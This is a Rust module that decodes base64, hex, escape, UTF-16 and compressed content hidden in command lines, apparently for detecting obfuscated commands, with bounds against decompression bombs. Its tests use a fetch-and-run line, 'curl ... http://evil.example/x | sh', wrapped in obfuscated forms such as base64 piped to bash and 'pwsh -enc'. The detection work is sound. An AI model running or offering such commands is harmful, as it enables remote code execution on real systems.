//! Finds what is encoded in a text, decodes it, and looks again in what came out.
//!
//! False positives are kept low by what comes out, not by what goes in: random bytes are almost never text. Of 16 characters that merely
//! look like base64, one in 100,000 decodes to twelve printable bytes.

use std::io::Read as _;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Encodings inside encodings are followed this deep.
const MAX_LAYERS: u32 = 3;
/// Bytes of one text that are looked at.
const MAX_INPUT: usize = 128 << 10;
/// Parts of one text that are tried.
const MAX_CANDIDATES: usize = 64;
/// Bytes that one command line may inflate, whatever comes of them.
const MAX_INFLATED: usize = 256 << 10;
/// Texts that one command line gives, and their bytes together.
const MAX_TEXTS: usize = 32;
const MAX_OUTPUT: usize = 64 << 10;
/// Characters of base64 and digits of hex that are worth a try.
const MIN_ENCODED: usize = 16;
/// `\x41` escapes are deliberate: a word of them is worth a try.
const MIN_ESCAPES: usize = 4;
/// Shorter results say nothing.
const MIN_TEXT: usize = 4;
/// Of so many bytes, one may be unprintable.
const PRINTABLE_OF: usize = 20;

const CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, CONFIG);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, CONFIG);

/// What a command line hides.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Decoded {
    /// Each text once, outer layers first.
    pub texts: Vec<Vec<u8>>,
    /// A bound was reached: there may be more.
    pub cut: bool,
}

/// What one command line may still cost: an attacker chooses it, and every other line of the batch waits.
struct Budget {
    /// Bytes to inflate.
    inflate: usize,
    cut: bool,
}

/// Decodes what is encoded in `line`, up to three layers deep.
pub fn decode(line: &[u8]) -> Decoded {
    let mut budget = Budget { inflate: MAX_INFLATED, cut: false };
    let mut texts: Vec<Vec<u8>> = Vec::new();
    let mut inputs = vec![line.to_vec()];
    let mut bytes = 0;
    for _ in 0..MAX_LAYERS {
        let layer = texts.len();
        for text in inputs.iter().flat_map(|input| candidates(input, &mut budget)) {
            if texts.contains(&text) {
                continue;
            }
            if texts.len() == MAX_TEXTS || bytes + text.len() > MAX_OUTPUT {
                return Decoded { texts, cut: true };
            }
            bytes += text.len();
            texts.push(text);
        }
        inputs = texts[layer..].to_vec();
    }
    Decoded { texts, cut: budget.cut }
}

/// The text of every part that looks encoded and is.
fn candidates(text: &[u8], budget: &mut Budget) -> Vec<Vec<u8>> {
    budget.cut |= text.len() > MAX_INPUT;
    let text = &text[..text.len().min(MAX_INPUT)];
    let mut found = Vec::new();
    let mut tried = 0;
    let digits = runs(text, |b| b.is_ascii_hexdigit()).filter_map(hex);
    let plain = escapes(text).chain(digits).map(Part::Bytes);
    for part in plain.chain(runs(text, is_base64).map(Part::Base64)) {
        tried += 1;
        if tried > MAX_CANDIDATES {
            budget.cut = true;
            break;
        }
        found.extend(match part {
            Part::Bytes(bytes) => text_of(&bytes, budget),
            Part::Base64(run) => base64(run, budget),
        });
    }
    found
}

/// A part of a text that looks encoded.
enum Part<'t> {
    /// Decoded already.
    Bytes(Vec<u8>),
    /// It is not clear where it begins.
    Base64(&'t [u8]),
}

/// Maximal runs of bytes that satisfy `is`, long enough to be worth a try.
fn runs<'t>(text: &'t [u8], is: impl Fn(u8) -> bool + Copy + 't) -> impl Iterator<Item = &'t [u8]> + 't {
    text.split(move |&b| !is(b)).filter(|run| run.len() >= MIN_ENCODED)
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')
}

/// Starts of a run from which base64 is tried: a path or an option may be glued to its front.
const MAX_STARTS: usize = 8;

/// What a run of base64 characters decodes to: of all starts the one with the cleanest text, and of equals the first.
fn base64(run: &[u8], budget: &mut Budget) -> Option<Vec<u8>> {
    let glue = |b: &u8| matches!(b, b'/' | b'-' | b'_' | b'+');
    let starts = std::iter::once(0).chain(run.iter().enumerate().filter(|(_, b)| glue(b)).map(|(i, _)| i + 1));
    starts
        .take(MAX_STARTS)
        .filter_map(|start| {
            let part = &run[start..];
            if part.len() < MIN_ENCODED {
                return None;
            }
            // A single left-over character holds no byte: the end was cut, or does not belong.
            let part = if part.len() % 4 == 1 { &part[..part.len() - 1] } else { part };
            let engine = if part.iter().any(|b| matches!(b, b'-' | b'_')) { &URL_SAFE } else { &STANDARD };
            text_of(&engine.decode(part).ok()?, budget)
        })
        .min_by_key(|text| unprintable(text))
}

/// The bytes of a run of hex digits; an odd last digit is left out.
fn hex(run: &[u8]) -> Option<Vec<u8>> {
    run.chunks_exact(2).map(|pair| Some(digit(pair[0])? << 4 | digit(pair[1])?)).collect()
}

fn digit(b: u8) -> Option<u8> {
    (b as char).to_digit(16).map(|d| d as u8)
}

/// The bytes of every run of `\x41` escapes, with any number of backslashes each.
fn escapes(text: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < text.len() {
            let mut bytes = Vec::new();
            while let Some((byte, len)) = escape(&text[at..]) {
                bytes.push(byte);
                at += len;
            }
            if bytes.len() >= MIN_ESCAPES {
                return Some(bytes);
            }
            if bytes.is_empty() {
                at += 1;
            }
        }
        None
    })
}

/// One escape at the front, and its length.
fn escape(text: &[u8]) -> Option<(u8, usize)> {
    let slashes = text.iter().take(4).take_while(|b| **b == b'\\').count();
    match text.get(slashes..slashes + 3)? {
        [b'x', high, low] if slashes > 0 => Some((digit(*high)? << 4 | digit(*low)?, slashes + 3)),
        _ => None,
    }
}

/// The text that decoded bytes are, if they are text: as they are, as UTF-16, or compressed.
fn text_of(bytes: &[u8], budget: &mut Budget) -> Option<Vec<u8>> {
    let inflated = match bytes {
        [0x1f, 0x8b, 8, ..] => inflate(flate2::read::MultiGzDecoder::new(bytes), budget),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => inflate(flate2::read::ZlibDecoder::new(bytes), budget),
        _ => None,
    };
    let bytes = inflated.as_deref().unwrap_or(bytes);
    if is_text(bytes) {
        return Some(bytes.to_vec());
    }
    utf16(bytes).filter(|text| is_text(text))
}

/// What can be inflated, even if the end is missing or wrong.
fn inflate(reader: impl std::io::Read, budget: &mut Budget) -> Option<Vec<u8>> {
    let limit = budget.inflate.min(MAX_OUTPUT);
    let mut out = Vec::new();
    // An error still leaves in `out` what came before it.
    let _ = reader.take(limit as u64 + 1).read_to_end(&mut out);
    if out.len() > limit {
        out.truncate(limit);
        budget.cut = true;
    }
    budget.inflate -= out.len();
    (!out.is_empty()).then_some(out)
}

/// Little-endian UTF-16 as PowerShell has it, narrowed to UTF-8.
fn utf16(bytes: &[u8]) -> Option<Vec<u8>> {
    let pairs = bytes.chunks_exact(2);
    if pairs.len() < MIN_TEXT || !pairs.remainder().is_empty() {
        return None;
    }
    // Without mostly zero high bytes, any even number of random bytes would be some Chinese text.
    if pairs.clone().filter(|p| p[1] == 0).count() * 10 < pairs.len() * 8 {
        return None;
    }
    let units = pairs.map(|p| u16::from_le_bytes([p[0], p[1]]));
    char::decode_utf16(units).collect::<Result<String, _>>().ok().map(String::into_bytes)
}

/// Whether bytes are mostly printable text with a letter in it.
fn is_text(bytes: &[u8]) -> bool {
    bytes.len() >= MIN_TEXT
        && bytes.iter().any(u8::is_ascii_alphabetic)
        && unprintable(bytes) * PRINTABLE_OF <= bytes.len()
}

/// Control characters and bytes that are not UTF-8.
fn unprintable(bytes: &[u8]) -> usize {
    let control = |c: &char| c.is_control() && !matches!(c, '\t' | '\n' | '\r');
    bytes.utf8_chunks().map(|chunk| chunk.valid().chars().filter(control).count() + chunk.invalid().len()).sum()
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use super::*;

    const PAYLOAD: &str = "curl -fsSL http://evil.example/x | sh";

    fn b64(bytes: impl AsRef<[u8]>) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    /// Each byte as two digits, with something before it.
    fn digits(before: &str, bytes: &[u8]) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        for b in bytes {
            write!(out, "{before}{b:02x}").unwrap();
        }
        out
    }

    fn to_hex(bytes: &[u8]) -> String {
        digits("", bytes)
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    }

    fn texts(line: &str) -> Vec<String> {
        decode(line.as_bytes()).texts.into_iter().map(|t| String::from_utf8(t).unwrap()).collect()
    }

    #[test]
    fn each_encoding_is_seen_through() {
        let wide: Vec<u8> = PAYLOAD.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let escaped = digits("\\x", PAYLOAD.as_bytes());
        let double = digits("\\\\x", PAYLOAD.as_bytes());
        let url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{PAYLOAD} ???>>>"));
        assert!(url.contains(['-', '_']), "the case is about the other alphabet: {url}");
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        zlib.write_all(PAYLOAD.as_bytes()).unwrap();
        let cases = [
            format!("bash -c 'echo {} | base64 -d | bash'", b64(PAYLOAD)),
            format!("base64 -d <<< {}", b64(PAYLOAD).trim_end_matches('=')),
            format!("python3 -c \"exec(b64decode('{url}'))\""),
            format!("pwsh -enc {}", b64(wide)),
            format!("echo {} | xxd -r -p | sh", to_hex(PAYLOAD.as_bytes())),
            format!("echo 0x{}", to_hex(PAYLOAD.as_bytes()).to_uppercase()),
            format!("printf '{escaped}'"),
            format!("bash -c $'{double}'"),
            format!("echo {} | base64 -d | gunzip | sh", b64(gzip(PAYLOAD.as_bytes()))),
            format!("echo {}", to_hex(&gzip(PAYLOAD.as_bytes()))),
            format!("x={}", b64(zlib.finish().unwrap())),
            format!("sh /tmp/{}", b64(PAYLOAD)),
        ];
        for case in cases {
            let texts = texts(&case);
            assert!(texts.len() == 1 && texts[0].starts_with(PAYLOAD), "{case}: {texts:?}");
        }
    }

    #[test]
    fn three_layers_are_decoded_and_not_four() {
        let one = format!("echo {}", b64(PAYLOAD));
        let two = format!("echo {}", to_hex(one.as_bytes()));
        let three = format!("echo {}", b64(gzip(two.as_bytes())));
        let four = format!("echo {}", b64(&three));
        assert_eq!(texts(&three), [two.as_str(), one.as_str(), PAYLOAD]);
        assert_eq!(texts(&four), [three.as_str(), two.as_str(), one.as_str()]);
    }

    #[test]
    fn ordinary_command_lines_hide_nothing() {
        let ordinary = [
            "",
            "ls -la /usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            "/usr/lib/systemd/systemd-networkd-wait-online --interface=eth0",
            "git checkout 389a29661f0a3b2d9c7e5f8a1b4c6d8e0f2a4b6c",
            "sha256sum -c e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "docker run --rm registry.example/team/internationalization:20241124120000",
            "/usr/bin/python3 -m http.server --directory /var/www/html/documentation_build_output",
            "runc --root /run/containerd/runc/k8s.io --log /run/log.json exec 4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f80910213243546576879a",
            "java -XX:+UseContainerSupport -XX:MaxRAMPercentage=75.0 -Djava.security.egd=file:/dev/./urandom",
            "ssh-keygen -t ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx5oXqvZ0lD1nZ8Kq3mW2yB4uV6tR8sP0oN2mL4kJ6h",
            "mount UUID=0b9c1e6e-43a7-4f0e-9d7a-1b2c3d4e5f60 /mnt 1234567890123456789012",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA 00000000000000000000",
        ];
        for line in ordinary {
            assert_eq!(decode(line.as_bytes()), Decoded::default(), "{line}");
        }
    }

    #[test]
    fn random_words_of_the_alphabet_are_rarely_text() {
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut x = 0x9e37_79b9_7f4a_7c15_u64;
        let mut hits = 0;
        for _ in 0..100_000 {
            let word: Vec<u8> = (0..16)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    alphabet[(x >> 33) as usize % 64]
                })
                .collect();
            hits += usize::from(!decode(&word).texts.is_empty());
        }
        assert!(hits <= 20, "{hits} of 100,000");
    }

    #[test]
    fn bounds_hold_and_are_reported() {
        let bomb = format!("echo {}", b64(gzip(&vec![b'a'; 10 << 20])));
        let decoded = decode(bomb.as_bytes());
        assert_eq!((decoded.texts.iter().map(Vec::len).sum::<usize>(), decoded.cut), (MAX_OUTPUT, true));

        let many: Vec<String> = (0..200).map(|i| b64(format!("the hidden text {i:03}"))).collect();
        let decoded = decode(many.join(" ").as_bytes());
        assert_eq!((decoded.texts.len(), decoded.cut), (MAX_TEXTS, true));

        let long = "x".repeat(MAX_INPUT + 1);
        assert_eq!(decode(long.as_bytes()), Decoded { texts: Vec::new(), cut: true });
    }

    #[test]
    fn arbitrary_bytes_never_panic() {
        let mut x = 88_172_645_463_325_252_u64;
        for len in 0..2_000 {
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    // Half of the bytes are those that mean something here.
                    if x & 1 == 0 {
                        b"\\x41=/-+_AaZz09 \x1f\x8b\x08\x78\x9c"[(x >> 8) as usize % 20]
                    } else {
                        (x >> 16) as u8
                    }
                })
                .collect();
            let _ = decode(&bytes);
        }
    }
}
